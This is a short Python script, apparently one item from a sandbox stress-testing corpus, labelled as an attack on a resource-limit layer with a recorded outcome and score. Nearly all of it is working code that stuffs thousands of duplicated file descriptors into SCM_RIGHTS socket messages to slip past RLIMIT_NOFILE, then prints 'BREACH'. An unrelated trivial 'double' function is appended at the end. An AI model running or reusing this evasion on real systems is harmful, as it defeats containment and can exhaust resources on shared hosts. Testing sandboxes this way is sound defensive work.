# attack: hide open files in messages of sockets, where RLIMIT_NOFILE does not count them
# layer: rlimits
# outcome: ok
# score: 2
import array
import os
import socket

sent = 0
hoard = []
try:
    for _ in range(60):
        left, right = socket.socketpair()
        hoard.append((left, right))
        left.setblocking(False)
        rights = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0] * 200))]
        for _ in range(200):
            left.sendmsg([b"x"], rights)
            sent += 200
except OSError:
    pass
if sent > 2000:
    os.write(1, b"BREACH %d files in flight" % sent)
del hoard


def double(x):
    return x * 2
